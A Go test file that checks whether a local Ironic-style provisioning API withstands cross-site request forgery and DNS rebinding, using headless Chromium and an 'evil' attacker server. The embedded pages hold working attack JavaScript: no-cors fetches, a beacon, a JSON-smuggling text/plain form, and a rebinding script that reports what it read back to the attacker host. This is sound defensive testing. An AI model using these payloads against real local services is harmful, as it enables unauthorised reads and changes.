package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// browse has a real browser open an address; more are further flags. It ends with the test.
func browse(t *testing.T, address string, more ...string) {
	t.Helper()
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Fatal("chromium is missing; scripts/deps test installs it")
	}
	dir, err := os.MkdirTemp("", "browser-") // the browser's children may still write when the test ends
	if err != nil {
		t.Fatal(err)
	}
	args := append([]string{"--headless=new", "--no-sandbox", "--disable-gpu",
		"--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		"--disable-background-networking", "--user-data-dir=" + dir}, more...)
	cmd := exec.Command("chromium", append(args, address)...)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &said, &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
		_ = os.RemoveAll(dir)
		if t.Failed() {
			t.Logf("the browser says:\n%.4000s", said.String())
		}
	})
}

// evil is the attacker's server: it serves a page under every path but /said, where the page tells what it has done.
type evil struct {
	*httptest.Server
	said chan string
}

func newEvil(t *testing.T, page string) *evil {
	t.Helper()
	e := &evil{said: make(chan string, 10)}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/said" {
			w.Header().Set("Access-Control-Allow-Origin", "*")
			b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
			e.said <- string(b)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page)
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *evil) hear(t *testing.T) string {
	t.Helper()
	select {
	case s := <-e.said:
		return s
	case <-time.After(3 * time.Minute):
		t.Fatal("the page told nothing")
		return ""
	}
}

// nodesOf lists the names of a service's nodes as curl would.
func nodesOf(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url + "/v1/nodes")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var list struct {
		Nodes []struct {
			UUID  string `json:"uuid"`
			State string `json:"provision_state"`
		} `json:"nodes"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&list); err != nil || resp.StatusCode != 200 {
		t.Fatalf("%d %v", resp.StatusCode, err)
	}
	return fmt.Sprint(list.Nodes)
}

// A page of another site, in a real browser on the machine where the API listens without a login, creates nothing, though
// the browser sends all that the page asks for: a server that does not mind gets it.
func TestAPageOfAnotherSiteDrivesNothing(t *testing.T) {
	s := start(t, t.TempDir())
	var taken atomic.Int64
	naive := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		if b, _ := io.ReadAll(r.Body); r.Method == http.MethodPost && strings.Contains(string(b), "fake-hardware") {
			taken.Add(1)
		}
	}))
	defer naive.Close()
	const page = `<!doctype html><body><script>
const body = '{"driver":"fake-hardware","extra":{"a":"b"}}';
const forms = [];
function form(to) { // {"driver":"fake-hardware","extra":{"a":"="}}
  const frame = document.createElement("iframe"); frame.name = "f" + forms.length; document.body.append(frame);
  const f = document.createElement("form"); f.method = "post"; f.enctype = "text/plain"; f.action = to; f.target = frame.name;
  const i = document.createElement("input"); i.name = '{"driver":"fake-hardware","extra":{"a":"'; i.value = '"}}';
  f.append(i); document.body.append(f);
  forms.push(new Promise(done => { frame.onload = done; setTimeout(done, 20000); }));
  f.submit();
}
async function attack(base) {
  const to = base + "/v1/nodes";
  const all = [
    fetch(to, {method: "POST", mode: "no-cors", body: body}),
    fetch(to, {method: "POST", mode: "no-cors", body: new Blob([body])}),
    fetch(to, {method: "POST", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: body}),
    fetch(to, {method: "POST", headers: {"Content-Type": "application/json"}, body: body}),
    fetch(to).then(r => r.text()).then(t => "read " + t),
  ];
  navigator.sendBeacon(to, body);
  form(to);
  return (await Promise.allSettled(all)).map(r => r.value && String(r.value).startsWith("read ") ? r.value : r.status);
}
(async () => {
  const target = new URLSearchParams(location.search);
  const said = [await attack(target.get("naive")), await attack(target.get("api"))];
  await Promise.all(forms);
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>`
	e := newEvil(t, page)
	browse(t, e.URL+"/?api="+s.url+"&naive="+naive.URL)
	said := e.hear(t)
	if taken.Load() != 5 { // three fetches, a beacon, a form
		t.Errorf("a server that does not mind got %d of 5 requests, so the browser proves nothing; the page says %s", taken.Load(), said)
	}
	if strings.Contains(said, "read ") {
		t.Errorf("the page has read: %s", said)
	}
	if nodes := nodesOf(t, s.url); nodes != "[]" {
		t.Errorf("the page has made nodes: %s; it says %s", nodes, said)
	}
}

// A page whose own name leads to the API by now (DNS rebinding) is of the same site for the browser, and reads and changes
// nothing. The name's address stays here; the server behind it changes, which a browser cannot tell from a new address.
func TestDNSRebindingReadsNothing(t *testing.T) {
	address := freeAddress(t)
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	e := newEvil(t, "")
	const page = `<!doctype html><script>
const to = "%s/said";
const tell = what => fetch(to, {method: "POST", mode: "no-cors", body: what});
const ask = (path, how) => fetch(path, how).then(
  async r => r.status + " " + (r.headers.get("X-Openstack-Request-Id") ? "billet " : "evil ") + await r.text(), e => "" + e);
(async () => {
  await tell("ready");
  while (!(await ask("/")).includes("billet")) await new Promise(r => setTimeout(r, 200));
  const json = {"Content-Type": "application/json", "X-OpenStack-Ironic-API-Version": "1.90"};
  const said = [await ask("/v1/nodes", {headers: json}), await ask("/v1/nodes/bay-1", {headers: json}),
    await ask("/v1/nodes", {method: "POST", headers: json, body: '{"driver":"fake-hardware"}'}),
    await ask("/v1/nodes/bay-1/states/provision", {method: "PUT", headers: json, body: '{"target":"manage"}'})];
  await tell(JSON.stringify(said));
})();
</script>`
	first := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Connection", "close")
		_, _ = fmt.Fprintf(w, page, e.URL)
	})}
	go func() { _ = first.Serve(l) }()
	defer first.Close()
	browse(t, "http://evil.example:"+port+"/", "--host-resolver-rules=MAP evil.example 127.0.0.1")
	if said := e.hear(t); said != "ready" {
		t.Fatal(said)
	}
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
	s := startAt(t, address, t.TempDir())
	req, err := http.NewRequest("POST", s.url+"/v1/nodes", strings.NewReader(`{"driver":"fake-hardware","name":"bay-1"}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-OpenStack-Ironic-API-Version", "1.90")
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 201 {
		t.Fatal(resp, err)
	}
	resp.Body.Close()
	before := nodesOf(t, s.url)
	said := e.hear(t)
	var answers []string
	if err := json.Unmarshal([]byte(said), &answers); err != nil || len(answers) != 4 {
		t.Fatalf("the page says %s", said)
	}
	for i, a := range answers {
		if !strings.HasPrefix(a, "403 billet ") || strings.Contains(a, "bay-1") {
			t.Errorf("request %d of the page got %s", i, a)
		}
	}
	if after := nodesOf(t, s.url); after != before {
		t.Errorf("the page has changed %s to %s", before, after)
	}
}
